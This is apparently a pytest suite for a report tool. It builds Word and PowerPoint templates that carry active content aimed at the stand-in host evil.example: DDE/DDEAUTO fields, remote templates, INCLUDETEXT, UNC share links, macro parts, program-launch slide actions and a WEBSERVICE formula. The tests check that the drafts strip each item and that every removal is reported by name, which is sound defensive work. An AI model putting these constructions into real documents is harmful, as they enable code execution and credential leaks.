"""Templates that fetch, link or run: nothing of it is in the drafts, what looks stays, and each thing is told by name."""

import io
import re
import zipfile

import docx
import openpyxl
import pptx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Cm

from lhasaplan.core.base.translations import Translations
from lhasaplan.errors import InputError
from lhasaplan.report.formats.docx import template_faults, template_remarks, write_document
from lhasaplan.report.formats.pptx import write_deck
from lhasaplan.report.formats.slide_frame import empty_presentation
from lhasaplan.report.slides.deck import Deck, Slide
from lhasaplan.report.text import template_parts
from lhasaplan.report.text.document import Bullets, Document, Heading, Paragraph
from lhasaplan.report.text.template_fields import is_kept

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
EVIL = "evil.example"
VBA = "application/vnd.ms-office.vbaProject"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
PLAIN_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def word_file(path, change):
    """Write a template of one word before the draft, changed by a function."""
    word = docx.Document()
    word.add_paragraph("Before")
    word.add_paragraph("[[content]]")
    change(word)
    word.save(path)
    return path


def external(part, kind, target=f"http://{EVIL}/x"):
    return part.relate_to(target, kind, is_external=True)


def add_xml(paragraph, xml):
    paragraph._p.append(parse_xml(xml))


def field(*pieces, shown="shown"):
    """Return a field whose instruction is split over runs."""
    texts = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    begin, between, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{texts}{between}<w:r><w:t>{shown}</w:t></w:r>{end}"


def with_field(*pieces, shown="shown"):
    def change(word):
        paragraph = word.paragraphs[0]
        for each in parse_xml(f"<w:p {nsdecls('w')}>{field(*pieces, shown=shown)}</w:p>"):
            paragraph._p.append(each)

    return change


def attached_template(word):
    settings = word.part._settings_part
    number = external(settings, f"{OFFICE}/attachedTemplate")
    word.settings.element.append(parse_xml(f'<w:attachedTemplate {nsdecls("w", "r")} r:id="{number}"/>'))


def ole_link(word):
    number = external(word.part, f"{OFFICE}/oleObject", rf"file:///\\{EVIL}\share\x.xlsx")
    xml = f"""<w:r {nsdecls("w", "r")} xmlns:o="urn:schemas-microsoft-com:office:office"><w:object>
        <o:OLEObject Type="Link" ProgID="Excel.Sheet.12" UpdateMode="Always" r:id="{number}"/></w:object></w:r>"""
    add_xml(word.paragraphs[0], xml)


def linked_picture(word):
    number = external(word.part, f"{OFFICE}/image")
    xml = f"""<w:r {nsdecls("w", "r", "a")}><w:drawing><a:blip r:link="{number}"/></w:drawing></w:r>"""
    add_xml(word.paragraphs[0], xml)


def linked_vml(word):
    xml = f"""<w:r {nsdecls("w")} xmlns:v="urn:schemas-microsoft-com:vml"><w:pict><v:shape>
        <v:imagedata src="http://{EVIL}/x.png"/></v:shape></w:pict></w:r>"""
    add_xml(word.paragraphs[0], xml)


def sub_document(word):
    number = external(word.part, f"{OFFICE}/subDocument", f"http://{EVIL}/part.docx")
    word.element.body.insert(0, parse_xml(f'<w:subDoc {nsdecls("w", "r")} r:id="{number}"/>'))


def mail_merge(word):
    xml = f"""<w:mailMerge {nsdecls("w")}><w:mainDocumentType w:val="catalog"/>
        <w:connectString w:val="Data Source={EVIL}"/></w:mailMerge>"""
    word.settings.element.append(parse_xml(xml))


def share_link(word):
    number = external(word.part, RT.HYPERLINK, rf"file://{EVIL}/share")
    xml = f"""<w:hyperlink {nsdecls("w", "r")} r:id="{number}"><w:r><w:t>minutes</w:t></w:r></w:hyperlink>"""
    add_xml(word.paragraphs[0], xml)


def part_of(word, name, content_type, kind, content=b"evil.example"):
    word.part.relate_to(Part(PackURI(name), content_type, content, word.part.package), kind)


def embedded(word):
    part_of(
        word, "/word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", f"{OFFICE}/oleObject"
    )


def alt_chunk(word):
    part_of(word, "/word/chunk.htm", "text/html", f"{OFFICE}/aFChunk", b"<img src='http://evil.example/x'>")


def macros(word):
    part_of(word, "/word/vbaProject.bin", VBA, f"{MICROSOFT}/vbaProject")


def ribbon(word):
    content = f'<customUI onLoad="{EVIL}" xmlns="http://schemas.microsoft.com/office/2006/01/customui"/>'.encode()
    part = Part(PackURI("/customUI/customUI.xml"), "application/xml", content, word.part.package)
    word.part.package.relate_to(part, f"{MICROSOFT}/ui/extensibility")


def add_in(word):
    content_type = "application/vnd.ms-office.webextensiontaskpanes+xml"
    part = Part(PackURI("/word/webextensions/taskpanes.xml"), content_type, f"<a>{EVIL}</a>".encode(), word.part.package)
    word.part.package.relate_to(part, "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes")


def in_the_head(word):
    head = word.sections[0].header
    for each in parse_xml(f"<w:p {nsdecls('w')}>{field(f'INCLUDEPICTURE http://{EVIL}/logo.png')}</w:p>"):
        head.paragraphs[0]._p.append(each)


WORD_CASES = {
    "a remote template": (attached_template, "attachedTemplate"),
    "a linked OLE object": (ole_link, "oleObject"),
    "a linked picture": (linked_picture, "image"),
    "a picture of VML": (linked_vml, "x.png"),
    "a part of another document": (sub_document, "subDocument"),
    "a merged letter": (mail_merge, "mailMerge"),
    "a link to a share": (share_link, "hyperlink"),
    "an OLE object": (embedded, "oleObject1.bin"),
    "a page inside": (alt_chunk, "chunk.htm"),
    "macros": (macros, "vbaProject.bin"),
    "a ribbon": (ribbon, "customUI.xml"),
    "an add-in": (add_in, "taskpanes.xml"),
    "a field in the head": (in_the_head, "INCLUDEPICTURE"),
    "DDE": (with_field(" DDE cmd evil.example "), "DDE cmd"),
    "DDEAUTO in pieces": (with_field("DDE", "AU", "TO c:\\\\evil.example"), "DDEAUTO"),
    "INCLUDETEXT": (with_field(f'INCLUDETEXT "http://{EVIL}/t.docx"'), "INCLUDETEXT"),
    "LINK": (with_field("LINK Excel.Sheet.8 evil.example"), "LINK Excel"),
    "a database": (with_field("DATABASE \\d evil.example"), "DATABASE"),
    "a macro that waits for a click": (with_field("MACROBUTTON evil.example press"), "MACROBUTTON"),
    "a link of a field to a share": (with_field(r'HYPERLINK "\\evil.example\share"'), "HYPERLINK"),
}


def texts_of(path):
    """Return all that stands in a file, of workbooks in it, too."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            if name.endswith(".xlsx"):
                yield from texts_of(io.BytesIO(content))
            yield name, content.decode("utf-8", "replace")


def drafted_words(path, folder):
    draft = Document("A plan", "of a city", "en", (), (Heading("One"), Paragraph("Two")), date="2026-11-30")
    return write_document(draft, folder / "plan.docx", Translations(), path)


def drafted_slides(path, folder):
    deck = Deck("A plan", "of a city", "en", (), (Slide("one", (Bullets(("x",)),)),))
    return write_deck(deck, folder / "plan.pptx", "2026-11-30", path)


def every_change(cases):
    def change(*parts):
        for each, _ in cases.values():
            each(*parts)

    return change


@pytest.fixture(scope="module")
def words(tmp_path_factory):
    """One template that holds all of them, the draft that was put in it, and what is remarked."""
    folder = tmp_path_factory.mktemp("words")
    path = word_file(folder / "own.docx", every_change(WORD_CASES))
    assert template_faults([path]) == ()
    return path, drafted_words(path, folder), [str(remark) for remark in template_remarks([path])]


def test_that_nothing_of_a_word_file_that_fetches_links_or_runs_is_in_the_draft(words):
    template, file, _ = words
    assert sum(text.count(EVIL) for _, text in texts_of(template)) >= len(WORD_CASES)
    found = dict(texts_of(file))
    assert not [part for part, text in found.items() if EVIL in text]
    assert not [part for part in found if re.search(r"vba|customUI|webext|oleObject|\.bin|chunk", part)]
    assert "Before" in docx.Document(file).paragraphs[0].text


@pytest.mark.parametrize("name", WORD_CASES)
def test_that_what_is_not_taken_over_from_a_word_file_is_told_by_name(words, name):
    _, _, said = words
    assert any(WORD_CASES[name][1] in text for text in said), said
    assert all(text.startswith("own.docx") and "not taken over" in text for text in said)


def test_that_what_a_field_showed_stays_as_text(tmp_path):
    path = word_file(tmp_path / "own.docx", with_field("DDEAUTO evil.example", shown="41 cameras"))
    file = drafted_words(path, tmp_path)
    assert docx.Document(file).paragraphs[0].text == "Before41 cameras"
    assert "fldChar" not in dict(texts_of(file))["word/document.xml"].split("41 cameras")[0]


def test_that_a_field_hidden_in_the_instruction_of_another_goes_with_it(tmp_path):
    """``{ {QUOTE 68 68 69} cmd }`` names its kind through a field: what it would be nobody knows before it runs."""
    path = word_file(tmp_path / "own.docx", lambda word: None)
    word = docx.Document(path)
    inner, begin = field("QUOTE 68 68 69"), '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    rest = "<w:r><w:instrText> evil.example</w:instrText></w:r>" + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    for each in parse_xml(f"<w:p {nsdecls('w')}>{begin}{inner}{rest}</w:p>"):
        word.paragraphs[0]._p.append(each)
    word.save(path)
    file = drafted_words(path, tmp_path)
    assert docx.Document(file).paragraphs[0].text == "Before"
    assert EVIL not in "".join(text for _, text in texts_of(file))


def simple_page_field(word):
    add_xml(
        word.sections[0].footer.paragraphs[0],
        f'<w:fldSimple {nsdecls("w")} w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple>',
    )
    number = external(word.part, RT.HYPERLINK, "https://city.example/plans")
    add_xml(word.paragraphs[0], f'<w:hyperlink {nsdecls("w", "r")} r:id="{number}"><w:r><w:t>web</w:t></w:r></w:hyperlink>')


def test_that_pages_are_counted_and_links_to_the_web_wait_for_a_click(tmp_path):
    path = word_file(tmp_path / "own.docx", simple_page_field)
    assert template_remarks([path]) == ()
    found = dict(texts_of(drafted_words(path, tmp_path)))
    assert "https://city.example/plans" in found["word/_rels/document.xml.rels"]
    assert any('w:instr=" PAGE "' in text for name, text in found.items() if "footer" in name)


@pytest.mark.parametrize(
    "text", ["PAGE", " numpages \\* arabic", "= SUM(ABOVE)", "=1+1", 'HYPERLINK \\l "chapter"', "HYPERLINK mailto:a@b.example"]
)
def test_that_fields_that_only_compute_stay(text):
    assert is_kept(text)


@pytest.mark.parametrize(
    "text", ["", "?", "RD file.docx", "HYPERLINK file://x", "IMPORT x.wmf", "AUTOTEXT x", "ASK x y", "PAGEX"]
)
def test_that_no_other_field_stays(text):
    assert not is_kept(text)


def test_that_a_file_with_macros_under_another_name_becomes_one_without(tmp_path):
    path = word_file(tmp_path / "own.docx", macros)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(PLAIN_MAIN.encode(), MACRO_MAIN.encode())
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    file = drafted_words(path, tmp_path)
    with zipfile.ZipFile(file) as archive:
        types = archive.read("[Content_Types].xml").decode()
    assert "macro" not in types
    assert "vba" not in types
    assert PLAIN_MAIN in types


# Slides


def slide_file(path, change):
    deck = empty_presentation()
    [title] = [each for each in deck.slide_layouts[0].placeholders if each.element.ph.get("type") == "title"]
    title.top, title.height = Cm(1.0), Cm(3.7)
    for text in ("Welcome", "[[content]]"):
        deck.slides.add_slide(deck.slide_layouts[0]).shapes.title.text_frame.text = text
    change(deck, deck.slides[0])
    deck.save(path)
    return path


def action(deck, slide):
    run = slide.shapes.title.text_frame.paragraphs[0].runs[0]
    number = slide.part.relate_to(f"file:///c:/{EVIL}.exe", RT.HYPERLINK, is_external=True)
    link = f'<a:hlinkClick {nsdecls("a", "r")} r:id="{number}" action="ppaction://program"/>'
    run._r.get_or_add_rPr().append(parse_xml(link))


def macro_action(deck, slide):
    run = slide.shapes.title.text_frame.paragraphs[0].runs[0]
    link = f'<a:hlinkClick {nsdecls("a", "r")} r:id="" action="ppaction://macro?name={EVIL}"/>'
    run._r.get_or_add_rPr().append(parse_xml(link))


def film(deck, slide):
    number = slide.part.relate_to(f"http://{EVIL}/film.mp4", f"{OFFICE}/video", is_external=True)
    holder = slide.shapes.title._element.find(".//{*}nvPr")
    holder.append(parse_xml(f'<a:videoFile {nsdecls("a", "r")} r:link="{number}"/>'))


def linked_object(deck, slide):
    number = slide.part.relate_to(f"file://{EVIL}/x.xlsx", f"{OFFICE}/oleObject", is_external=True)
    ns = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    xml = f"""<p:graphicFrame {ns} {nsdecls("a", "r")}><a:graphic><a:graphicData><p:oleObj r:id="{number}">
        <p:link updateAutomatic="1"/>
        </p:oleObj></a:graphicData></a:graphic></p:graphicFrame>"""
    slide.shapes._spTree.append(parse_xml(xml))


def verb(deck, slide):
    ns = 'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
    slide._element.append(parse_xml(f'<p:timing {ns}><p:tnLst><p:cmd type="verb" cmd="{EVIL}"/></p:tnLst></p:timing>'))


def linked_chart(deck, slide):
    data = CategoryChartData()
    data.categories = ["a", "b"]
    data.add_series("s", (1, 2))
    frame = slide.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Cm(1), Cm(6), Cm(5), Cm(5), data)
    part = frame.chart.part
    [number] = [key for key, each in part.rels.items() if each.reltype.endswith("/package")]
    part._rels.pop(number)
    part.chart_workbook._chartSpace.externalData.set(
        f"{{{OFFICE}}}id", external(part, f"{OFFICE}/oleObject", f"file://{EVIL}/x.xlsx")
    )


def asking_workbook(deck, slide):
    """A chart whose own workbook asks a server in a formula and in a name."""
    data = CategoryChartData()
    data.categories = ["a", "b"]
    data.add_series("s", (1, 2))
    frame = slide.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Cm(1), Cm(6), Cm(5), Cm(5), data)
    part = next(each.target_part for each in frame.chart.part.rels.values() if each.reltype.endswith("/package"))
    book = openpyxl.load_workbook(io.BytesIO(part.blob))
    book.active["C1"] = f'=WEBSERVICE("http://{EVIL}/x")'
    book.defined_names["far"] = openpyxl.workbook.defined_name.DefinedName("far", attr_text=f"'[{EVIL}.xlsx]S'!$A$1")
    book.active["D1"].hyperlink, book.active["D1"].value = f"file://{EVIL}/x", "x"
    stream = io.BytesIO()
    book.save(stream)
    part._blob = stream.getvalue()


SLIDE_CASES = {
    "a program on a click": (action, "hyperlink"),
    "a macro on a click": (macro_action, "ppaction://macro"),
    "a film from a server": (film, "film.mp4"),
    "a linked object": (linked_object, "oleObject"),
    "a verb of an animation": (verb, "timing"),
    "a chart of another file": (linked_chart, "oleObject"),
    "a workbook that asks": (asking_workbook, "formulas"),
}


@pytest.fixture(scope="module")
def slides(tmp_path_factory):
    folder = tmp_path_factory.mktemp("slides")
    path = slide_file(folder / "own.pptx", every_change(SLIDE_CASES))
    assert template_faults([path]) == ()
    return path, drafted_slides(path, folder), [str(remark) for remark in template_remarks([path])]


def test_that_nothing_of_slides_that_fetch_link_or_run_is_in_the_draft(slides):
    template, file, _ = slides
    assert sum(text.count(EVIL) for _, text in texts_of(template)) >= len(SLIDE_CASES)
    assert not [part for part, text in texts_of(file) if EVIL in text]
    assert "Welcome" in pptx.Presentation(file).slides[0].shapes.title.text_frame.text


@pytest.mark.parametrize("name", SLIDE_CASES)
def test_that_what_is_not_taken_over_from_slides_is_told_by_name(slides, name):
    _, _, said = slides
    assert any(SLIDE_CASES[name][1] in text for text in said), said


def test_that_the_values_of_a_chart_stay(slides):
    slide = pptx.Presentation(slides[1]).slides[0]
    part = [shape for shape in slide.shapes if shape.has_chart][-1].chart.part
    blob = next(each.target_part for each in part.rels.values() if each.reltype.endswith("/package")).blob
    sheet = openpyxl.load_workbook(io.BytesIO(blob)).active
    assert [[cell.value for cell in row[:2]] for row in sheet.iter_rows()] == [[None, "s"], ["a", 1], ["b", 2]]


def test_that_a_template_that_unpacks_to_too_much_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(template_parts, "MOST_BYTES", 10_000)
    path = word_file(tmp_path / "own.docx", lambda word: None)
    [fault] = template_faults([path])
    assert "unpacked" in str(fault)
    with pytest.raises(InputError, match="unpacked"):
        template_remarks([path])
